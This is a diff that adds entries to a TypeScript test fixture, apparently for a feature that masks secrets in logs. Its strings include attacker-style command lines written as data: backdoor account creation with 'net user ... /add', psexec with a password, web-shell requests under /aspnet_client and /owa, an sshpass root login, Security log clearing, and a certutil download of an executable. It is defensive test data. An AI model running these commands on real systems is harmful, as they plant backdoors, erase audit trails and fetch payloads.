@@ -91,6 +91,14 @@ const hidden: readonly string[] = [
   // A text that was cut within the secret, or behind its quote.
   `net user a "${S}`,
   `new NetworkCredential("svc", "${S}`,
+  `{"CommandLine":"net user \\"back door\\" \\"${S}\\" /add"}`,
+  `<Data>net user &quot;back door&quot; &quot;${S}&quot; /add</Data>`,
+  `<Data>psexec \\\\dc -u &quot;admin&quot; -p &quot;${S}&quot; cmd</Data>`,
+  `<Data>new NetworkCredential(&quot;svc&quot;, &quot;${S}&quot;)</Data>`,
+  `GET /aspnet_client/x.aspx cmd=net+user+helper+${S}+/add 443`,
+  `GET /aspnet_client/x.aspx cmd=net%20user%20helper%20${S}%20/add&x=1 443`,
+  `GET /owa/x a=net%2520user%2520helper%2520${S}%2520/add`,
+  `sshpass -p${S} ssh root@198.51.100.7`,
   `cmd /c n^et us^er a ${S} /add`,
 ]
 
@@ -141,6 +149,7 @@ const shown: readonly string[] = [
   'Failed to read the token: access denied',
   'GET /owa/auth/shell.aspx - 443 - 203.0.113.7 Mozilla/5.0 - 200 0 0 15',
   'wevtutil cl Security',
+  'GET /x cmd=net+user+/domain&a=b%20c 443',
   'certutil -urlcache -split -f http://198.51.100.9/a.exe a.exe',
 ]
 
